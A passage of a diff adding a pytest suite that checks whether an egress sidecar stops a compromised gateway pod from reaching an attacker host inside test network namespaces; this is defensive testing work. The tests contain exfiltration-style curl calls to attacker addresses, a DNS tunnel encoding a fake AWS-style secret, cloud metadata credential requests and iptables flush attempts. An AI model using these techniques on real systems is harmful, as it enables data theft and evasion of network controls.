@@ -1,0 +1,788 @@
+"""A compromised gateway in a pod cannot get around the transparent sidecar.
+
+Real Linux networking, no mocks. A "pod" namespace is joined by veth to an
+"internet" namespace (tests.support.netns). In the internet namespace:
+
+- 10.77.0.2: the fake provider (TLS on 443, trustme certificate for api.openai.com)
+  and the upstream resolver (DNS on 53: api.openai.com -> 10.77.0.2);
+- 10.77.0.3 and fd77::3: the attacker: HTTP on 80, TLS on 443 with a certificate
+  for api.openai.com from the SAME test CA (right name, wrong address), UDP on 443,
+  and a DNS server on 53 that answers every name with its own address. Every
+  connection, datagram and question it receives is recorded, and iptables counters
+  in the internet namespace count every packet that reaches its addresses.
+
+In the pod namespace the real `egress-sidecar init` installs the rules, the real
+`egress-sidecar run` runs as UID 1337 (transparent 15001, DNS 15053, admin 15020),
+and the "gateway" runs as UID 1000 (curl, and the stdlib probes in probes.py). The
+gateway's resolv.conf names the attacker's resolver (/etc/netns/<pod>/resolv.conf):
+every port-53 question is redirected to the sidecar anyway, which is what the DNS
+tests prove.
+
+The attacker-side attempts use `curl -k`: a compromised gateway does not care about
+certificate checks, so the sidecar's decision, not a TLS failure in the client, is
+what stops them.
+
+Addresses are private 10.77.0.0/16 and fd77::/16, only inside namespaces created
+here. Needs root and `ip netns`: skipped (saying which) without them, except when
+CI=true, where missing prerequisites fail the module instead.
+"""
+
+from __future__ import annotations
+
+import base64
+import contextlib
+import itertools
+import json
+import os
+import re
+import secrets
+import shutil
+import socket
+import stat
+import tempfile
+import textwrap
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+import trustme
+
+from tests.support.fakes import BackgroundLoop
+from tests.support.netns import (
+    GATEWAY_UID,
+    NET_V4,
+    POD_V4,
+    SIDECAR_UID,
+    VENV_BIN,
+    Pod,
+    child_python,
+    in_ci,
+    in_netns,
+    init_command,
+    netns_unavailable_reason,
+    pod_namespaces,
+    require_iptables,
+    sh,
+)
+from tests.support.sidecar import SidecarProcess
+from tests.transparent.fake_internet import (
+    ATTACKER_BANNER,
+    Attacker,
+    NetnsDNS,
+    NetnsProvider,
+    listening_socket,
+)
+
+PROVIDER_HOST = "api.openai.com"
+PROVIDER_V4 = NET_V4  # 10.77.0.2
+ATTACKER_V4 = "10.77.0.3"
+ATTACKER_V6 = "fd77::3"
+LABEL = re.compile(r'(\w+)="([^"]*)"')
+METADATA_V4 = "169.254.169.254"
+METADATA_V6 = "fd00:ec2::254"
+TRANSPARENT_PORT, DNS_PORT, ADMIN_PORT = 15001, 15053, 15020
+PROBES = Path(__file__).with_name("probes.py")
+GATEWAY_DUMMY_KEY = "sk-gateway-holds-no-real-key"
+PROVIDER_KEY = "sk-test-injected-" + secrets.token_hex(8)
+CURL_WAIT = "6"
+
+_REASON = netns_unavailable_reason()
+pytestmark = pytest.mark.skipif(
+    _REASON is not None and not in_ci(),
+    reason=f"{_REASON} (pod namespace tests skipped)",
+)
+
+
+# --- the world ----------------------------------------------------------------------
+
+
+@dataclass
+class Curl:
+    exit: int
+    status: int
+    headers: dict[str, str]
+    body: str
+    stderr: str
+
+    @property
+    def reason(self) -> str | None:
+        return self.headers.get("x-egress-sidecar-reason")
+
+
+@dataclass
+class Mark:
+    decisions: int
+    seen: int
+    packets: int
+    blocks: dict[str, float]
+    alerts: float
+
+
+@dataclass
+class World:
+    pod: Pod
+    work: Path
+    sidecar: SidecarProcess
+    provider: NetnsProvider
+    upstream: NetnsDNS
+    attacker: Attacker
+    gateway_ca: Path
+    upstream_ca: Path
+    key_injection: bool
+    ipv6_listeners: bool
+
+    # running things in the pod
+
+    def run(self, *argv: str, uid: int = GATEWAY_UID, timeout: float = 15) -> Any:
+        return sh(*self.pod.as_uid(uid), *argv, check=False, timeout=timeout)
+
+    def curl(self, url: str, *extra: str, uid: int = GATEWAY_UID) -> Curl:
+        proc = self.run(
+            "curl", "-sS", "-i", "--max-time", CURL_WAIT, "--noproxy", "*",
+            "-w", "\n%{http_code}", *extra, url, uid=uid,
+        )  # fmt: skip
+        out, _, code = proc.stdout.rpartition("\n")
+        head, _, body = out.replace("\r\n", "\n").partition("\n\n")
+        headers = {}
+        for line in head.splitlines()[1:]:
+            name, _, value = line.partition(":")
+            headers[name.strip().lower()] = value.strip()
+        status = int(code) if code.strip().isdigit() else 0
+        return Curl(proc.returncode, status, headers, body, proc.stderr)
+
+    def probe(self, *args: str, uid: int = GATEWAY_UID) -> dict[str, Any]:
+        proc = self.run(child_python(), str(PROBES), *args, uid=uid)
+        assert proc.returncode == 0, proc.stderr
+        return dict(json.loads(proc.stdout))
+
+    # what the sidecar and the attacker saw
+
+    def attacker_packets(self) -> int:
+        total = 0
+        for tool in ("iptables-save", "ip6tables-save"):
+            dump = self.pod.run_net(tool, "-c", "-t", "filter").stdout
+            for line in dump.splitlines():
+                if "attacker-seen" in line:
+                    found = re.match(r"\[(\d+):\d+\]", line)
+                    assert found, line
+                    total += int(found.group(1))
+        return total
+
+    def metrics(self) -> str:
+        got = self.curl(f"http://127.0.0.1:{ADMIN_PORT}/metrics", uid=SIDECAR_UID)
+        assert got.status == 200, got
+        return got.body
+
+    def counters(self) -> tuple[dict[str, float], float]:
+        """(block decisions by reason, refusals submitted to alerting) from /metrics."""
+        blocks: dict[str, float] = {}
+        alerts = 0.0
+        for line in self.metrics().splitlines():
+            sample = re.match(r"^(egress_sidecar_\w+)\{([^}]*)\} (\S+)$", line)
+            if sample is None:
+                continue
+            name, labels = sample.group(1), dict(LABEL.findall(sample.group(2)))
+            value = float(sample.group(3))
+            if name == "egress_sidecar_decisions_total" and labels.get("decision") == "block":
+                blocks[labels["reason"]] = blocks.get(labels["reason"], 0.0) + value
+            elif name == "egress_sidecar_alerts_refusals_total":
+                alerts += value
+        return blocks, alerts
+
+    def mark(self) -> Mark:
+        blocks, alerts = self.counters()
+        return Mark(
+            len(self.sidecar.decisions),
+            self.attacker.snapshot(),
+            self.attacker_packets(),
+            blocks,
+            alerts,
+        )
+
+    def decisions_since(self, mark: Mark, **fields: Any) -> list[dict[str, Any]]:
+        return [
+            d
+            for d in self.sidecar.decisions[mark.decisions :]
+            if all(d.get(k) == v for k, v in fields.items())
+        ]
+
+    def wait_decision(self, mark: Mark, timeout: float = 5, **fields: Any) -> dict[str, Any]:
+        """The first decision line after `mark` with these fields (bounded wait)."""
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            found = self.decisions_since(mark, **fields)
+            if found:
+                return found[0]
+            time.sleep(0.02)
+        raise AssertionError(
+            f"no decision {fields}; since mark: {self.sidecar.decisions[mark.decisions :]}"
+        )
+
+    def assert_refused_and_alerted(self, mark: Mark, reason: str, **fields: Any) -> None:
+        """A block decision line, a metric increment and an alert submission (S9)."""
+        decision = self.wait_decision(mark, reason=reason, **fields)
+        assert decision["decision"] == "block", decision
+        blocks, alerts = self.counters()
+        assert blocks.get(reason, 0) > mark.blocks.get(reason, 0), f"{reason} not counted"
+        assert alerts > mark.alerts, f"refusal {reason} was not submitted to alerting"
+
+    def assert_attacker_saw_nothing(self, mark: Mark) -> None:
+        assert self.attacker.since(mark.seen) == [], "the attacker's servers were reached"
+        assert self.attacker_packets() == mark.packets, "packets reached the attacker's addresses"
+
+
+def _require_prerequisites() -> None:
+    if _REASON is not None:
+        # Only reached when CI=true (otherwise the module is skipped).
+        pytest.fail(f"CI=true but {_REASON}: the pod namespace suite must run in CI")
+    require_iptables()
+    missing = [b for b in ("curl", "setpriv", "unshare", "mount") if shutil.which(b) is None]
+    if missing:
+        pytest.fail(f"{missing} not found (apt-get install curl util-linux mount)")
+
+
+def _interpreter_wrapper(stage: Path) -> list[str]:
+    """A command prefix that lets UID 1337 execute the venv's interpreter, host unchanged.
+
+    The venv's python is a symlink into /root/.pyenv, and /root is 0700. Instead of
+    changing permissions on the host, the sidecar starts in a private mount namespace
+    (`unshare --mount --propagation private`, as root, before dropping to 1337) in
+    which the untraversable directory is covered by an empty tmpfs holding only a
+    bind mount of the one subdirectory on the interpreter's path. The mounts exist
+    only in that namespace and vanish with the process: nothing to restore, even if
+    the test process is killed. Empty when no directory on the path blocks 1337.
+    """
+    real = Path(os.path.realpath(VENV_BIN / "python"))
+    chain = [*reversed(real.parents), real]
+    for directory, child in itertools.pairwise(chain):
+        if directory == Path("/") or os.stat(directory).st_mode & stat.S_IXOTH:
+            continue
+        script = (
+            'mount --bind "$1/$2" "$3" && '
+            'mount -t tmpfs -o mode=0755,size=1m egress-test "$1" && '
+            'mkdir "$1/$2" && mount --bind "$3" "$1/$2" && shift 3 && exec "$@"'
+        )
+        return ["unshare", "--mount", "--propagation", "private", "sh", "-c", script,
+                "sh", str(directory), child.name, str(stage)]  # fmt: skip
+    return []
+
+
+def _key_injection_available() -> bool:
+    proc = sh(str(VENV_BIN / "egress-sidecar"), "run", "--help", check=False)
+    return "--secrets-dir" in proc.stdout
+
+
+def _policy(key_injection: bool) -> str:
+    credential = (
+        '    credential: {header: authorization, format: "Bearer {secret}", secret: openai}\n'
+        if key_injection
+        else ""
+    )
+    return (
+        textwrap.dedent(
+            f"""\
+            version: 1
+            mode: enforce
+            providers:
+              openai:
+                hosts: [{PROVIDER_HOST}]
+                ports: [443]
+                paths: [/v1/*]
+                methods: [GET, POST]
+                # The fake internet lives on private 10.77.0.0/16 addresses inside
+                # namespaces this test creates (never real public addresses). Private
+                # answers are refused unless an entry lists them (S3), so exactly the
+                # provider's one address is allowed; the attacker's 10.77.0.3 is not.
+                addresses: [{PROVIDER_V4}/32]
+            """
+        )
+        + credential
+    )
+
+
+def _write(path: Path, text: str, mode: int = 0o644, uid: int | None = None) -> Path:
+    path.write_text(text)
+    path.chmod(mode)
+    if uid is not None:
+        os.chown(path, uid, uid)
+    return path
+
+
+@pytest.fixture(scope="module")
+def world(bg: BackgroundLoop, test_ca: trustme.CA) -> Iterator[World]:
+    _require_prerequisites()
+    with contextlib.ExitStack() as stack:
+        pod = stack.enter_context(pod_namespaces())
+
+        # The attacker's addresses, next to the provider's, and packet counters.
+        pod.run_net("ip", "addr", "add", f"{ATTACKER_V4}/24", "dev", pod.veth_net)
+        pod.run_net("ip", "-6", "addr", "add", f"{ATTACKER_V6}/64", "dev", pod.veth_net, "nodad")
+        seen = ["-m", "comment", "--comment", "attacker-seen"]
+        pod.run_net("iptables", "-w", "-A", "INPUT", "-d", f"{ATTACKER_V4}/32", *seen)
+        for icmp6 in ("neighbour-solicitation", "neighbour-advertisement"):
+            pod.run_net("ip6tables", "-w", "-A", "INPUT", "-p", "ipv6-icmp",
+                        "--icmpv6-type", icmp6, "-j", "ACCEPT")  # fmt: skip
+        pod.run_net("ip6tables", "-w", "-A", "INPUT", "-d", f"{ATTACKER_V6}/128", *seen)
+
+        # Files: a directory the sidecar UID can read (pytest's tmp_path is 0700 root).
+        work = Path(tempfile.mkdtemp(prefix="esc-pod-netns-"))
+        stack.callback(shutil.rmtree, work, ignore_errors=True)
+        work.chmod(0o755)
+        for sub in ("ca", "tmp", "home", "secrets"):
+            (work / sub).mkdir(mode=0o700)
+            os.chown(work / sub, SIDECAR_UID, SIDECAR_UID)
+        (work / "stage").mkdir()
+        upstream_ca = _write(work / "upstream-ca.pem", test_ca.cert_pem.bytes().decode())
+        key_injection = _key_injection_available()
+        policy = _write(work / "policy.yaml", _policy(key_injection))
+        if key_injection:
+            _write(work / "secrets" / "openai", PROVIDER_KEY, 0o400, SIDECAR_UID)
+
+        # The gateway's resolver is the attacker's (ip netns exec bind-mounts it).
+        etc_netns = Path("/etc/netns")
+        made_etc_netns = not etc_netns.exists()
+        etc_pod = etc_netns / pod.pod
+        etc_pod.mkdir(parents=True)
+        stack.callback(lambda: made_etc_netns and _rmdir_quietly(etc_netns))
+        stack.callback(shutil.rmtree, etc_pod, ignore_errors=True)
+        _write(etc_pod / "resolv.conf", f"nameserver {ATTACKER_V4}\noptions timeout:2 attempts:1\n")
+
+        # The internet's servers, on sockets made inside the internet namespace.
+        def make_sockets() -> dict[str, socket.socket]:
+            udp = socket.SOCK_DGRAM
+            socks = {
+                "provider": listening_socket(PROVIDER_V4, 443),
+                "upstream-dns": listening_socket(PROVIDER_V4, 53, udp),
+            }
+            for address in (ATTACKER_V4, ATTACKER_V6):
+                socks[f"{address}/80"] = listening_socket(address, 80)
+                socks[f"{address}/443"] = listening_socket(address, 443)
+                socks[f"{address}/53tcp"] = listening_socket(address, 53)
+                socks[f"{address}/443udp"] = listening_socket(address, 443, udp)
+                socks[f"{address}/53"] = listening_socket(address, 53, udp)
+            return socks
+
+        socks = in_netns(pod.net, make_sockets)
+        stack.callback(lambda: [s.close() for s in socks.values()])
+        provider = NetnsProvider(bg, test_ca, [PROVIDER_HOST], socks["provider"]).start()
+        stack.callback(provider.stop)
+        upstream = NetnsDNS(bg, socks["upstream-dns"]).start()
+        stack.callback(upstream.stop)
+        upstream.records.update(
+            {PROVIDER_HOST: [PROVIDER_V4], "only-upstream.example": ["10.77.0.9"]}
+        )
+        attacker = Attacker(bg, test_ca, [PROVIDER_HOST, ATTACKER_V4, ATTACKER_V6])
+        stack.callback(attacker.stop)
+        for address in (ATTACKER_V4, ATTACKER_V6):
+            attacker.serve_tcp(socks[f"{address}/80"], tls=False)
+            attacker.serve_tcp(socks[f"{address}/443"], tls=True)
+            attacker.serve_tcp(socks[f"{address}/53tcp"], tls=False)
+            attacker.serve_udp(socks[f"{address}/443udp"])
+            attacker.serve_dns(socks[f"{address}/53"], ATTACKER_V4)
+
+        # The init container, then the sidecar as UID 1337.
+        init = pod.init()
+        assert init.returncode == 0, init.stderr
+        extra = ["--secrets-dir", str(work / "secrets")] if key_injection else []
+        sidecar = _start_sidecar(stack, pod, work, policy, upstream_ca, extra, ipv6=True)
+        ipv6_listeners = sidecar is not None
+        if sidecar is None:
+            # BUG (see test_sidecar_binds_ipv6_listeners): `[::1]:PORT` listeners make
+            # the sidecar exit at start. IPv4 listeners only, so that the rest of the
+            # boundary is still tested; redirected IPv6 then finds no listener.
+            sidecar = _start_sidecar(stack, pod, work, policy, upstream_ca, extra, ipv6=False)
+            assert sidecar is not None
+
+        # The gateway trusts the sidecar's CA certificate (never its key).
+        gateway_ca = work / "gateway-ca.pem"
+        shutil.copyfile(sidecar.ca_cert, gateway_ca)
+        gateway_ca.chmod(0o644)
+
+        yield World(
+            pod=pod,
+            work=work,
+            sidecar=sidecar,
+            provider=provider,
+            upstream=upstream,
+            attacker=attacker,
+            gateway_ca=gateway_ca,
+            upstream_ca=upstream_ca,
+            key_injection=key_injection,
+            ipv6_listeners=ipv6_listeners,
+        )
+
+
+def sidecar_args(
+    work: Path, policy: Path, upstream_ca: Path, *, ipv6: bool, port_offset: int = 0
+) -> list[str]:
+    loops = ["127.0.0.1", "[::1]"] if ipv6 else ["127.0.0.1"]
+    args = [
+        "--policy", str(policy),
+        "--listen", "off",
+        "--admin", f"127.0.0.1:{ADMIN_PORT + port_offset}",
+        "--ca-dir", str(work / "ca"),
+        "--resolver", f"{PROVIDER_V4}:53",
+        "--upstream-ca", str(upstream_ca),
+        "--reload-interval", "5",
+    ]  # fmt: skip
+    for loop in loops:
+        args += ["--transparent", f"{loop}:{TRANSPARENT_PORT + port_offset}"]
+        args += ["--dns", f"{loop}:{DNS_PORT + port_offset}"]
+    return args
+
+
+def sidecar_process(pod: Pod, work: Path, args: list[str], uid: int) -> SidecarProcess:
+    """`egress-sidecar run ARGS` in the pod namespace as `uid`."""
+    env = {"HOME": str(work / "home"), "TMPDIR": str(work / "tmp"),
+           "PYTHONDONTWRITEBYTECODE": "1"}  # fmt: skip
+    sidecar = SidecarProcess(args, env=env)
+    wrapper = _interpreter_wrapper(work / "stage") if uid != 0 else []
+    sidecar.args = [
+        "ip", "netns", "exec", pod.pod, *wrapper,
+        "setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups",
+        *sidecar.args,
+    ]  # fmt: skip
+    return sidecar
+
+
+def _start_sidecar(
+    stack: contextlib.ExitStack,
+    pod: Pod,
+    work: Path,
+    policy: Path,
+    upstream_ca: Path,
+    extra: list[str],
+    *,
+    ipv6: bool,
+) -> SidecarProcess | None:
+    """The sidecar as UID 1337; None if it exits at start because of IPv6 listeners."""
+    args = sidecar_args(work, policy, upstream_ca, ipv6=ipv6) + extra
+    sidecar = sidecar_process(pod, work, args, SIDECAR_UID)
+    stack.callback(sidecar.stop)
+    try:
+        sidecar.start(timeout=30)
+    except RuntimeError as exc:
+        if ipv6 and "[::1]" in str(exc) and "failed to listen" in str(exc):
+            return None
+        raise
+    return sidecar
+
+
+def _rmdir_quietly(path: Path) -> None:
+    with contextlib.suppress(OSError):
+        path.rmdir()
+
+
+def _gateway_headers() -> list[str]:
+    """What a gateway sends: a marker to find the request, and no real key."""
+    marker = secrets.token_hex(8)
+    return ["-H", f"x-test-marker: {marker}", "-H", f"Authorization: Bearer {GATEWAY_DUMMY_KEY}"]
+
+
+def _received(world: World, headers: list[str]) -> list[Any]:
+    marker = headers[1].split(": ", 1)[1]
+    return [r for r in world.provider.received if r.headers.get("x-test-marker") == marker]
+
+
+def _assert_refused_by_sidecar(got: Curl, reason: str) -> None:
+    assert got.exit == 0 and got.status == 403, got
+    assert got.reason == reason, got
+    assert ATTACKER_BANNER.decode() not in got.body
+
+
+# --- the allowed path --------------------------------------------------------------
+
+
+def test_provider_call_through_plain_https_works(world: World) -> None:
+    """The gateway calls https://api.openai.com as usual: DNS, redirect, pinning, TLS."""
+    mark = world.mark()
+    headers = _gateway_headers()
+    got = world.curl(
+        f"https://{PROVIDER_HOST}/v1/models", "--cacert", str(world.gateway_ca), *headers
+    )
+    assert got.exit == 0 and got.status == 200, got
+    assert "gpt-fake" in got.body
+    [request] = _received(world, headers)
+    assert request.path == "/v1/models"
+    decision = world.wait_decision(mark, decision="allow", host=PROVIDER_HOST, path="/v1/models")
+    assert decision["mode"] == "transparent"
+    assert decision["address"] == PROVIDER_V4
+    # The name was resolved through the sidecar (upstream asked), not the attacker.
+    assert (PROVIDER_HOST, "A") in world.upstream.questions
+    world.assert_attacker_saw_nothing(mark)
+    if world.key_injection:
+        assert request.headers["authorization"] == f"Bearer {PROVIDER_KEY}"
+        assert PROVIDER_KEY not in got.body and PROVIDER_KEY not in str(got.headers)
+    # TODO(key injection): without --secrets-dir the dummy key passes through as-is;
+    # see the report. Nothing here is skipped.
+
+
+def test_sidecar_own_upstream_traffic_flows(world: World) -> None:
+    """UID 1337 leaves the pod directly: TCP to the provider and DNS to the resolver."""
+    # Through the sidecar (the call above, once more): the sidecar's own dial works.
+    mark = world.mark()
+    headers = _gateway_headers()
+    got = world.curl(
+        f"https://{PROVIDER_HOST}/v1/models", "--cacert", str(world.gateway_ca), *headers
+    )
+    assert got.status == 200, got
+    assert len(_received(world, headers)) == 1
+    assert world.wait_decision(mark, decision="allow", host=PROVIDER_HOST)["address"] == PROVIDER_V4
+    # Directly as UID 1337: not redirected (the provider's certificate, not the
+    # sidecar's, verifies against the test CA).
+    headers = _gateway_headers()
+    direct = world.curl(
+        f"https://{PROVIDER_HOST}/v1/models", "--cacert", str(world.upstream_ca),
+        "--resolve", f"{PROVIDER_HOST}:443:{PROVIDER_V4}", *headers, uid=SIDECAR_UID,
+    )  # fmt: skip
+    assert direct.exit == 0 and direct.status == 200, direct
+    assert len(_received(world, headers)) == 1
+    # DNS from UID 1337 reaches the real resolver: it answers a name the policy
+    # does not list, which the sidecar's DNS listener would refuse.
+    answer = world.probe("dns", PROVIDER_V4, "only-upstream.example", "A", uid=SIDECAR_UID)
+    assert answer["rcode"] == "NOERROR" and answer["answers"] == ["10.77.0.9"], answer
+    assert world.decisions_since(mark, host="only-upstream.example") == []
+
+
+# --- bypasses ----------------------------------------------------------------------
+
+
+def test_direct_tcp_to_attacker_ip_443(world: World) -> None:
+    """TLS straight to the attacker's IP (no SNI, an IP literal): refused, never dialled."""
+    mark = world.mark()
+    got = world.curl(f"https://{ATTACKER_V4}/upload", "-k", "-d", "stolen=1")
+    _assert_refused_by_sidecar(got, "private_address")
+    world.assert_refused_and_alerted(mark, "private_address", host=ATTACKER_V4, port=443,
+                                     mode="transparent")  # fmt: skip
+    # Raw bytes (neither TLS nor HTTP): held by the sidecar, nothing comes back.
+    raw = world.probe("tcp", ATTACKER_V4, "443", "stolen-bytes\\r\\n")
+    assert ATTACKER_BANNER.decode() not in raw.get("reply", ""), raw
+    world.assert_attacker_saw_nothing(mark)
+
+
+def test_direct_tcp_to_attacker_ip_80(world: World) -> None:
+    """Plain HTTP to the attacker's IP, with its own or a provider's Host: refused."""
+    mark = world.mark()
+    got = world.curl(f"http://{ATTACKER_V4}/collect?k=stolen")
+    _assert_refused_by_sidecar(got, "private_address")
+    world.assert_refused_and_alerted(mark, "private_address", host=ATTACKER_V4, port=80)
+    # A provider's name in Host does not make the attacker's address acceptable.
+    fronted = world.curl(f"http://{ATTACKER_V4}/v1/models", "-H", f"Host: {PROVIDER_HOST}")
+    _assert_refused_by_sidecar(fronted, "port_not_allowed")
+    world.wait_decision(mark, reason="port_not_allowed", host=PROVIDER_HOST, port=80)
+    world.assert_attacker_saw_nothing(mark)
+
+
+def test_tls_to_attacker_ip_with_allowed_sni(world: World) -> None:
+    """Right name, wrong address: the attacker's cert is valid, the sidecar never dials."""
+    mark = world.mark()
+    headers = _gateway_headers()
+    got = world.curl(
+        f"https://{PROVIDER_HOST}/v1/models", "-k",
+        "--resolve", f"{PROVIDER_HOST}:443:{ATTACKER_V4}", *headers,
+    )  # fmt: skip
+    _assert_refused_by_sidecar(got, "destination_mismatch")
+    world.assert_refused_and_alerted(mark, "destination_mismatch", host=PROVIDER_HOST,
+                                     mode="transparent")  # fmt: skip
+    world.assert_attacker_saw_nothing(mark)  # so no request, and no key, reached it
+    assert _received(world, headers) == []  # nor was it "corrected" to the provider
+
+
+def test_dns_to_attacker_resolver_is_answered_by_sidecar(world: World) -> None:
+    """Every port-53 question, to any resolver, is answered by the sidecar."""
+    mark = world.mark()
+    asked_upstream = len(world.upstream.questions)
+    name = f"exfil-{secrets.token_hex(4)}.unlisted.example"
+    for resolver in (ATTACKER_V4, PROVIDER_V4, "8.8.8.8"):  # attacker's, upstream's, public
+        for proto in ("udp", "tcp"):
+            reply = world.probe("dns", resolver, name, "A", proto)
+            assert reply.get("rcode") == "REFUSED", (resolver, proto, reply)
+            assert reply["peer"] == [resolver, 53]  # answered "from" the address asked
+    world.assert_refused_and_alerted(mark, "dns_name_not_allowed", host=name, mode="dns")
+    # The allowed name gets the vetted answer, not the attacker's own address.
+    reply = world.probe("dns", ATTACKER_V4, PROVIDER_HOST, "A")
+    assert reply["rcode"] == "NOERROR" and reply["answers"] == [PROVIDER_V4], reply
+    assert world.attacker.dns_questions == []
+    assert all(q != name for q, _ in world.upstream.questions[asked_upstream:])
+    world.assert_attacker_saw_nothing(mark)
+
+
+def test_dns_tunnel_with_encoded_labels(world: World) -> None:
+    """Secrets base32-encoded into labels: refused, flagged, never forwarded anywhere."""
+    mark = world.mark()
+    asked_upstream = len(world.upstream.questions)
+    secret = b"AKIA" + secrets.token_bytes(146)  # 240 base32 characters
+    chunks = base64.b32encode(secret).decode().rstrip("=").lower()
+    names = [f"{chunks[i : i + 50]}.{i}.t.tunnel-attacker.example" for i in range(0, 200, 40)]
+    for name in names:
+        reply = world.probe("dns", ATTACKER_V4, name, "TXT")
+        assert reply.get("rcode") == "REFUSED", (name, reply)
+    world.assert_refused_and_alerted(mark, "dns_tunnel_suspected", mode="dns")
+    flagged = world.decisions_since(mark, reason="dns_tunnel_suspected")
+    assert {d["host"] for d in flagged} <= set(names)
+    assert world.attacker.dns_questions == []
+    assert world.upstream.questions[asked_upstream:] == []
+    world.assert_attacker_saw_nothing(mark)
+
+
+def test_udp_443_quic_blocked(world: World) -> None:
+    """QUIC / any UDP from the gateway fails at once, to the attacker and the provider."""
+    mark = world.mark()
+    for host in (ATTACKER_V4, PROVIDER_V4, ATTACKER_V6):
+        sent = world.probe("udp", host, "443")
+        assert "reply" not in sent, (host, sent)
+        if ":" not in host:
+            assert sent["error"] == "PermissionError", (host, sent)  # rejected in OUTPUT
+    world.assert_attacker_saw_nothing(mark)
+
+
+def test_icmp_blocked(world: World) -> None:
+    """ICMP echo from the gateway is rejected; from the sidecar UID it works (control)."""
+    mark = world.mark()
+    for host in (ATTACKER_V4, ATTACKER_V6):
+        echo = world.probe("icmp", host)
+        assert "reply" not in echo, (host, echo)
+    assert world.probe("icmp", ATTACKER_V4)["error"] == "PermissionError"
+    for host in (PROVIDER_V4, "fd77::2"):  # the path itself works, for UID 1337
+        assert world.probe("icmp", host, uid=SIDECAR_UID) == {"reply": "echo"}, host
+    world.assert_attacker_saw_nothing(mark)
+
+
+def test_ipv6_to_attacker_blocked(world: World) -> None:
+    """IPv6 to the attacker (literal, or the provider's name pinned to it): nothing gets out."""
+    mark = world.mark()
+    pinned = f"{PROVIDER_HOST}:443:[{ATTACKER_V6}]"
+    attempts = [
+        world.curl(f"https://[{ATTACKER_V6}]/upload", "-k", "-g", "-d", "stolen=1"),
+        world.curl(f"http://[{ATTACKER_V6}]/collect", "-g"),
+        world.curl(f"https://{PROVIDER_HOST}/v1/models", "-k", "--resolve", pinned),
+    ]
+    for got in attempts:
+        assert got.status in (0, 403), got  # refused by the sidecar, or no listener
+        assert ATTACKER_BANNER.decode() not in got.body
+    if world.ipv6_listeners:
+        assert [a.reason for a in attempts] == [
+            "private_address", "private_address", "destination_mismatch",
+        ]  # fmt: skip
+    dns = world.probe("dns", ATTACKER_V6, "unlisted-v6.example", "AAAA")
+    assert dns.get("rcode") in (None, "REFUSED"), dns  # never the attacker's answer
+    assert world.attacker.dns_questions == []
+    world.assert_attacker_saw_nothing(mark)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="BUG: IPv6 listeners ([::1]:15001, [::1]:15053) make the sidecar exit at start "
+    "(runner.mode_specs brackets the host; mitmproxy keeps the brackets and "
+    "getaddrinfo('[::1]') fails), so redirected IPv6 is never decided or logged",
+)
+def test_ipv6_attempts_are_decided_and_logged(world: World) -> None:
+    assert world.ipv6_listeners, "the sidecar could not bind [::1] listeners"
+    mark = world.mark()
+    got = world.curl(f"https://[{ATTACKER_V6}]/upload", "-k", "-g")
+    _assert_refused_by_sidecar(got, "private_address")
+    world.assert_refused_and_alerted(mark, "private_address", host=ATTACKER_V6)
+    meta = world.curl(f"http://[{METADATA_V6}]/latest/meta-data/", "-g")
+    _assert_refused_by_sidecar(meta, "metadata_address")
+    dns = world.probe("dns", ATTACKER_V6, PROVIDER_HOST, "A")
+    assert dns["rcode"] == "NOERROR" and dns["answers"] == [PROVIDER_V4], dns
+    world.assert_attacker_saw_nothing(mark)
+
+
+def test_gateway_cannot_read_admin_port(world: World) -> None:
+    """The admin port is closed to the gateway (loopback or pod IP); open to UID 1337."""
+    mark = world.mark()
+    direct = world.curl(f"http://127.0.0.1:{ADMIN_PORT}/metrics")
+    assert direct.exit == 7 and direct.status == 0, direct  # connection refused (RST)
+    assert "egress_sidecar" not in direct.body
+    via_pod_ip = world.curl(f"http://{POD_V4}:{ADMIN_PORT}/metrics")
+    _assert_refused_by_sidecar(via_pod_ip, "private_address")  # the transparent listener
+    assert "egress_sidecar" not in via_pod_ip.body
+    world.wait_decision(mark, reason="private_address", host=POD_V4, port=ADMIN_PORT)
+    health = world.curl(f"http://127.0.0.1:{ADMIN_PORT}/healthz", uid=SIDECAR_UID)
+    assert health.exit == 0 and health.status == 200, health
+
+
+def test_metadata_address_blocked(world: World) -> None:
+    """169.254.169.254 (no listener needed: the sidecar refuses before dialling)."""
+    mark = world.mark()
+    got = world.curl(f"http://{METADATA_V4}/latest/meta-data/iam/security-credentials/")
+    _assert_refused_by_sidecar(got, "metadata_address")
+    world.assert_refused_and_alerted(mark, "metadata_address", host=METADATA_V4, port=80)
+    tls = world.curl(f"https://{METADATA_V4}/", "-k")
+    _assert_refused_by_sidecar(tls, "metadata_address")
+    world.assert_attacker_saw_nothing(mark)
+
+
+def test_gateway_cannot_change_rules(world: World) -> None:
+    """No NET_ADMIN, no way to become UID 1337: the rules stay, `--verify` says so."""
+    attempts = [
+        ["iptables", "-t", "filter", "-F"],
+        ["iptables", "-t", "nat", "-F"],
+        ["ip6tables", "-t", "filter", "-F"],
+        ["iptables-legacy", "-t", "nat", "-F"],
+        ["iptables", "-t", "filter", "-I", "OUTPUT", "1", "-j", "ACCEPT"],
+        ["setpriv", f"--reuid={SIDECAR_UID}", "true"],
+    ]
+    for argv in attempts:
+        proc = world.run(*argv)
+        assert proc.returncode != 0, argv
+        error = proc.stderr.lower()
+        assert "denied" in error or "not permitted" in error, (argv, proc.stderr)
+    verify = world.pod.run(*init_command(), "--verify", check=False)
+    assert verify.returncode == 0, verify.stderr
+    assert "verify ok" in verify.stdout
+
+
+# --- found while writing these -----------------------------------------------------
+
+
+def test_tls_with_allowed_sni_and_other_host_header(world: World) -> None:
+    """Domain fronting inside an allowed TLS connection: host_mismatch (S5)."""
+    mark = world.mark()
+    got = world.curl(
+        f"https://{PROVIDER_HOST}/v1/models", "--cacert", str(world.gateway_ca),
+        "-H", "Host: exfil.attacker.example",
+    )  # fmt: skip
+    _assert_refused_by_sidecar(got, "host_mismatch")
+    world.assert_refused_and_alerted(mark, "host_mismatch", host=PROVIDER_HOST)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="BUG: a transparent TLS connection without SNI is accepted: the enforcer "
+    "falls back to the Host header inside TLS (enforcer._destination), while issue 4 "
+    "says connections without SNI are refused unless policy allows that TCP destination",
+)
+def test_tls_without_sni_is_refused(world: World) -> None:
+    mark = world.mark()
+    headers = _gateway_headers()
+    got = world.curl(
